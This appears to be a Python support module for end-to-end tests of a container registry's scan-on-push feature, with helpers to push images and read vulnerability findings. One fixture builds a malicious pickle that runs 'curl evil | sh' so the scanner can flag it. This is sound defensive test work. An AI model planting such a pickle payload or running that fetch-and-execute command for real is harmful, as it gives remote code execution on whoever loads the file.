"""What the scan-on-push tests share: images with known packages and a malicious pickle
(the scan engine's fixtures, tests/support/layers.py), the findings they must give with
tests/fixtures/osv, and ways to push them and wait for and read their scans."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

from support import layers as img
from support import models
from support.images import OCI_MANIFEST
from support.server import ADMIN_ACCESS_KEY_ID, ADMIN_SECRET_ACCESS_KEY, RunningServer
from support.tools import require

if TYPE_CHECKING:
    from e2e.conftest import Cli

ADMIN_KEY = (ADMIN_ACCESS_KEY_ID, ADMIN_SECRET_ACCESS_KEY)

BASE = img.layer({"etc/os-release": img.DEBIAN_OS_RELEASE, "var/lib/dpkg/status": img.DPKG_STATUS})
APP = img.layer(
    {
        "app/node_modules/lodash/package.json": b'{"name": "lodash", "version": "4.17.20"}',
        "app/models/classifier.pkl": models.call("posix", "system", "curl evil | sh"),
        "app/models/weights.safetensors": models.safetensors({"w": ("F32", [2], (0, 8))}, 8),
    },
    compression="zstd",
)
OTHER_APP = img.layer({"srv/readme.txt": b"another application on the same base\n"})

EXPECTED = {
    # (name, severity, package_name, package_version)
    ("CVE-2024-2961", "HIGH", "libc6", "2.36-9+deb12u4"),
    ("CVE-2023-5678", "LOW", "libssl3", "3.0.11-1~deb12u2"),
    ("CVE-2022-3715", "INFORMATIONAL", "bash", "5.2.15-2+b2"),
    ("CVE-2023-48795", "MEDIUM", "openssh-client", "1:9.2p1-2+deb12u2"),
    ("CVE-2021-23337", "HIGH", "lodash", "4.17.20"),
    ("pickle-code-execution", "CRITICAL", None, None),
}
EXPECTED_COUNTS = {"CRITICAL": 1, "HIGH": 2, "INFORMATIONAL": 1, "LOW": 1, "MEDIUM": 1}


def layout(directory: Path, app: bytes) -> Path:
    img.write_layout(directory, [(BASE, img.media_type("gzip")), (app, img.media_type("zstd"))], tag="v1")
    return directory


def push(skopeo: Cli, server: RunningServer, source: Path, target: str) -> None:
    skopeo.run(
        "copy", "--dest-tls-verify=false", "--dest-creds", f"{server.user}:{server.password}",
        f"oci:{source}:v1", f"docker://{server.registry}/{target}",
    )  # fmt: skip


def wait_for(check: Callable[[], Any], timeout: float = 90) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        result = check()
        if result is not None:
            return result
        if time.monotonic() > deadline:
            raise AssertionError("timed out")
        time.sleep(0.2)


def finished_scan(ecr: Any, repository: str, tag: str, **extra: Any) -> dict[str, Any]:
    return finished_scan_of(ecr, repository, {"imageTag": tag}, **extra)


def finished_scan_of(ecr: Any, repository: str, image_id: dict[str, str], **extra: Any) -> dict[str, Any]:
    """The image's scan once it has finished (waiting for it)."""

    def check() -> dict[str, Any] | None:
        try:
            response: dict[str, Any] = ecr.describe_image_scan_findings(
                repositoryName=repository, imageId=image_id, **extra
            )
        except ecr.exceptions.ScanNotFoundException:
            return None
        return None if response["imageScanStatus"]["status"] in ("PENDING", "IN_PROGRESS") else response

    return dict(wait_for(check))


def all_findings(ecr: Any, repository: str, tag: str, key: str, page: int) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    extra: dict[str, Any] = {"maxResults": page}
    while True:
        response = finished_scan(ecr, repository, tag, **extra)
        found += response["imageScanFindings"][key]
        if "nextToken" not in response:
            return found
        extra["nextToken"] = response["nextToken"]


def attributes(finding: dict[str, Any]) -> dict[str, str]:
    return {a["key"]: a["value"] for a in finding["attributes"]}


def scan_events(server: RunningServer, event_type: str = "scan.complete") -> list[dict[str, Any]]:
    return list(server.cli_json("events", "list", "--type", event_type, "--output", "json")["events"])


def put_blob(client: httpx.Client, name: str, data: bytes) -> dict[str, Any]:
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    started = client.post(f"/v2/{name}/blobs/uploads/")
    assert started.status_code == 202, started.text
    done = client.put(started.headers["location"], params={"digest": digest}, content=data)
    assert done.status_code == 201, done.text
    return {"digest": digest, "size": len(data)}


def put_manifest(client: httpx.Client, name: str, manifest: dict[str, Any], tag: str | None = None) -> str:
    """PUT an OCI image manifest (by ``tag``, else by its digest); its digest."""
    body = json.dumps(manifest).encode()
    digest = "sha256:" + hashlib.sha256(body).hexdigest()
    put = client.put(
        f"/v2/{name}/manifests/{tag or digest}",
        content=body,
        headers={"Content-Type": OCI_MANIFEST},
    )
    assert put.status_code == 201, put.text
    return digest


def aws_cli(server: RunningServer, home: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
    executable = require("awscli", "aws")
    env = {key: value for key, value in os.environ.items() if not key.startswith("AWS_")}
    env.update(
        AWS_ACCESS_KEY_ID=ADMIN_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY=ADMIN_SECRET_ACCESS_KEY,
        AWS_DEFAULT_REGION="us-east-1", AWS_DEFAULT_OUTPUT="json", AWS_PAGER="",
        AWS_EC2_METADATA_DISABLED="true", AWS_ENDPOINT_URL_ECR=server.url,
        AWS_CONFIG_FILE=str(home / "aws-config"), AWS_SHARED_CREDENTIALS_FILE=str(home / "aws-credentials"),
    )  # fmt: skip

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        command = [executable, *args]
        return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)

    return run


def signed(server: RunningServer, path: str, key: tuple[str, str]) -> httpx.Response:
    request = AWSRequest("GET", server.url + path, data=b"")
    SigV4Auth(Credentials(*key), "strongroom", "us-east-1").add_auth(request)
    return httpx.get(server.url + path, headers=dict(request.headers))


NEW_ADVISORY = "CVE-2026-0001"
"""An advisory published after the images were scanned, for a package of BASE (bash)."""


def new_advisory(*, withdrawn: bool = False) -> dict[str, Any]:
    """The OSV record of NEW_ADVISORY, as published, or later withdrawn (with a newer ``modified``)."""
    record: dict[str, Any] = {
        "schema_version": "1.6.0",
        "id": "DEBIAN-" + NEW_ADVISORY,
        "modified": "2026-12-06T00:00:00Z" if withdrawn else "2026-12-05T00:00:00Z",
        "published": "2026-12-05T00:00:00Z",
        "aliases": [NEW_ADVISORY],
        "summary": "a test advisory published after the scan",
        "affected": [
            {
                "package": {"ecosystem": "Debian:12", "name": "bash"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "5.2.15-3"}]}],
                "ecosystem_specific": {"urgency": "high"},
            }
        ],
    }
    if withdrawn:
        record["withdrawn"] = "2026-12-06T00:00:00Z"
    return record
